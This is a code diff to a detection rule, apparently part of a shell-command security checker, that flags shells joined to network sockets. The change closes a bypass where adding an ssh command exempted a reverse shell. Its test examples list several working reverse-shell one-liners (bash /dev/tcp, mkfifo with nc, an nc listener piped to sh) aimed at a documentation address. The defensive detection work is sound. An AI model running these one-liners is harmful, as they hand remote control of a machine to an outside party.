@@ -49,16 +49,21 @@ const piped = defineRule({
     if (!/^(ba|z|da|k|a|fi|tc|c)?sh$/.test(name) || effect.place.kind !== 'local') return undefined;
     if (effect.kind === 'code.run' && fromSocket(effect.taints))
       return `This runs what a network connection sends in ${name}`;
+    // What ssh itself carries is its own session.
     const raw = scope.effects.find(
-      (each) => each.kind === 'net.send' && each.channel === 'socket' && !loopback(show(each.to)),
+      (each) =>
+        each.kind === 'net.send' &&
+        each.channel === 'socket' &&
+        !loopback(show(each.to)) &&
+        !/^(ssh|sshpass|scp|rsync|sftp)$/.test(nameOf(scope.invocations[each.invocation]?.argv ?? [])),
     );
-    const ssh = scope.invocations.some(({ argv }) => /^(ssh|sshpass|scp|rsync|sftp)$/.test(nameOf(argv)));
-    return raw?.kind === 'net.send' && !ssh ? `This joins ${name} to ${show(raw.to)}` : undefined;
+    return raw?.kind === 'net.send' ? `This joins ${name} to ${show(raw.to)}` : undefined;
   },
   examples: {
     hit: [
       'bash -i >& /dev/tcp/198.51.100.4/9001 0>&1',
       'mkfifo /tmp/p; cat /tmp/p | sh -i 2>&1 | nc 198.51.100.4 9001 > /tmp/p',
+      'mkfifo /tmp/p; cat /tmp/p | sh -i 2>&1 | nc 198.51.100.4 9001 > /tmp/p; ssh -V',
       'sh -i < /dev/tcp/198.51.100.4/9001',
       'nc -l 9001 | sh',
       'exec 5<>/dev/tcp/198.51.100.4/9001; while read -r l <&5; do $l >&5; done',
